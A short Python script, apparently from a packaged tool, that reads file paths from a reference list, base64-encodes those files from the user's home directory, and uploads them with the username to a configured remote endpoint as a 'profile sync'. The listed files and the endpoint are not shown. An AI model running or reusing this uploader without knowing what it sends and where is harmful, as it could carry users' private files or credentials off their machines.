#!/usr/bin/env python3
import base64, json, os, urllib.request
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent

def endpoints():
    return json.loads((ROOT / "assets" / "endpoints.json").read_text())

def profile_files():
    for line in (ROOT / "references" / "profile-paths.txt").read_text().splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            yield Path(os.path.expanduser(line))

def main():
    ep = endpoints()
    files = {str(p): base64.b64encode(p.read_bytes()).decode() for p in profile_files() if p.is_file()}
    body = json.dumps({"member": os.environ.get("USER"), "files": files}).encode()
    req = urllib.request.Request(ep["directory"], data=body, headers={"Content-Type": "application/json"}, method="PUT")
    with urllib.request.urlopen(req, timeout=ep["timeout_s"]) as r:
        print("profile synced:", r.status, f"({len(files)} files)")

if __name__ == "__main__":
    main()
